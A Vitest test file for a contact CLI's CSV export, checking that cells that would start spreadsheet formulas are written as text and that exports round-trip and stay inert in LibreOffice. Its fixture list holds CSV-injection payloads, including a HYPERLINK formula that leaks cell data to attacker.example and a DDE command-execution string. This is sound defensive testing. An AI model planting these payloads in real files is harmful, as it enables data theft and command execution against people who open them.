import { execFile } from 'node:child_process'
import { existsSync } from 'node:fs'
import { mkdtemp, readFile, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import Papa from 'papaparse'
import { beforeAll, describe, expect, it } from 'vitest'
import { runCaptured } from '../../../../test/support/cli'

// Values any member or imported list can bring, each of which a spreadsheet would run.
const HOSTILE = ['=HYPERLINK("http://attacker.example/?x="&A1,"Click")', '+SUM(1+1)', '-2+3', '@cmd', '=cmd|\' /C calc\'!A0', ' =1+1', '＝1+1']
const SOFFICE = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find((path) => existsSync(path))

/** What a spreadsheet would evaluate: a formula start that is not a plain number. */
const runnable = (cell: string) => /^\s*[=+\-@\t\r＝＋－＠]/u.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell)

let home: string
let exported: string
const cli = (...args: string[]) => runCaptured([...args, '--home', home])

beforeAll(async () => {
  home = await mkdtemp(join(tmpdir(), 'massline-cli-formulas-'))
  const rows = HOSTILE.map((name, i) => [name, i === 0 ? '+15551234567' : `+1555123456${i}`, i === 0 ? '+15557654321; +15550000000' : '', '@tag', '=1+1'])
  const source = join(home, 'hostile.csv')
  await writeFile(source, Papa.unparse({ fields: ['Name', 'Phone', 'Other phones', 'Tags', 'Notes'], data: rows }))
  expect(JSON.parse((await cli('import', 'contacts', source, '--json')).out)).toMatchObject({ imported: HOSTILE.length })
  exported = join(home, 'exported.csv')
  expect((await cli('export', 'contacts', '--format', 'csv', '--out', exported)).code).toBe(0)
})

describe('CSV export and spreadsheet formulas', () => {
  it('writes every cell that would start a formula as text, and a lone E.164 phone as a bare number', async () => {
    const table = Papa.parse<string[]>(await readFile(exported, 'utf8'), { skipEmptyLines: true }).data
    const [header, ...rows] = table
    const column = (name: string) => header!.indexOf(name)
    for (const row of rows) {
      expect(row.filter(runnable)).toEqual([])
      expect(row[column('Name')]!.startsWith("'")).toBe(true)
      expect(row[column('Tags')]).toBe("'@tag")
      expect(row[column('Notes')]).toBe("'=1+1")
    }
    const text = await readFile(exported, 'utf8')
    expect(text).toContain('"\'+SUM(1+1)",+15551234561,')
    expect(text).toContain(',+15551234567,"\'+15557654321; +15550000000",')
  })

  it('imports its own export back as it was, without the apostrophes', async () => {
    home = await mkdtemp(join(tmpdir(), 'massline-cli-formulas-'))
    expect(JSON.parse((await cli('import', 'contacts', exported, '--json')).out)).toMatchObject({ imported: HOSTILE.length, problems: [] })
    const again = Papa.parse<string[]>((await cli('export', 'contacts', '--format', 'csv')).out, { skipEmptyLines: true }).data
    expect(again).toEqual(Papa.parse<string[]>(await readFile(exported, 'utf8'), { skipEmptyLines: true }).data)
  })

  // The check that matters, in a real spreadsheet engine: LibreOffice evaluates formulas in CSV it opens.
  it.skipIf(!SOFFICE)('opened in LibreOffice Calc, runs no formula and keeps +15551234567 a number', async () => {
    const out = await mkdtemp(join(tmpdir(), 'massline-soffice-'))
    const env = { ...process.env, HOME: out }
    await promisify(execFile)(SOFFICE!, ['--headless', '--convert-to', 'fods', '--outdir', out, exported], { env, timeout: 110_000 })
    const sheet = await readFile(join(out, 'exported.fods'), 'utf8')
    expect(sheet).not.toContain('table:formula')
    expect(sheet).toContain('office:value-type="float" office:value="15551234567"')
    expect(sheet).toMatch(/<text:p>&apos;\+SUM\(1\+1\)<\/text:p>/)
  }, 120_000)
})
